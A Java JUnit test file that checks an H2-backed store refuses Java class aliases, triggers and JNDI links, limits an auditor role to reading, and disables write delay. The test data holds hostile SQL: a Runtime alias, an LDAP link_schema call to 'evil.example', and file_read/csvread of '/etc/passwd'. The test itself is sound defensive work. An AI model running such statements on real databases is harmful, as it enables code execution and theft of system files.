package org.creditdesk.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import org.creditdesk.staff.Role;
import org.h2.api.ErrorCode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What an H2 file can do beyond keeping rows stays closed, even for its owner; and its commits are immediate. */
class H2ClosedTest {
    private final TestStore store = TestStores.fresh(StoreKind.H2);

    @AfterEach
    void close() {
        store.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "create alias run for \"java.lang.Runtime.getRuntime\"",
                "create alias run for \"java.lang.System.exit(int)\"",
                "create trigger evil before insert on setting call \"java.lang.Object\"",
                "create aggregate evil for \"java.lang.Object\"",
                "call link_schema('x', 'javax.naming.InitialContext', 'ldap://evil.example/x', 'a', 'b', 'public')",
            })
    void noJavaClassCanBeNamed(String sql) throws SQLException {
        try (Connection connection = store.connectAsAdministrator();
                Statement statement = connection.createStatement()) {
            SQLException refused = assertThrows(SQLException.class, () -> statement.execute(sql));
            assertTrue(isClassRefused(refused), refused.getMessage());
        }
    }

    private static boolean isClassRefused(Throwable failure) {
        return failure != null
                && (failure instanceof SQLException sql && sql.getErrorCode() == ErrorCode.ACCESS_DENIED_TO_CLASS_1
                        || isClassRefused(failure.getCause()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "update ledger_entry set amount = 1",
                "delete from audit_event",
                "create table mine (id int)",
                "drop table ledger_entry",
                "alter user aldo admin true",
                "grant creditdesk_owner to aldo",
                "create user eve password 'x' admin",
                "script to '/tmp/never.sql'",
                "backup to '/tmp/never.zip'",
                "set write_delay 500",
                "shutdown",
                "call file_read('/etc/passwd')",
                "call file_write('x', '/tmp/never')",
                "select * from csvread('/etc/passwd')",
            })
    void anAuditorOnlyReads(String sql) throws SQLException {
        try (Connection connection = store.connect(Role.AUDITOR);
                Statement statement = connection.createStatement()) {
            assertThrows(SQLException.class, () -> statement.execute(sql));
        }
    }

    @Test
    void everyOpeningWritesAtCommit() {
        for (Role role : Role.values()) {
            try (Store opened = store.open(role)) {
                assertEquals("0", opened.read(session -> session.createNativeQuery(
                                "select setting_value from information_schema.settings"
                                        + " where setting_name = 'WRITE_DELAY'",
                                String.class)
                        .getSingleResult()));
            }
        }
    }
}
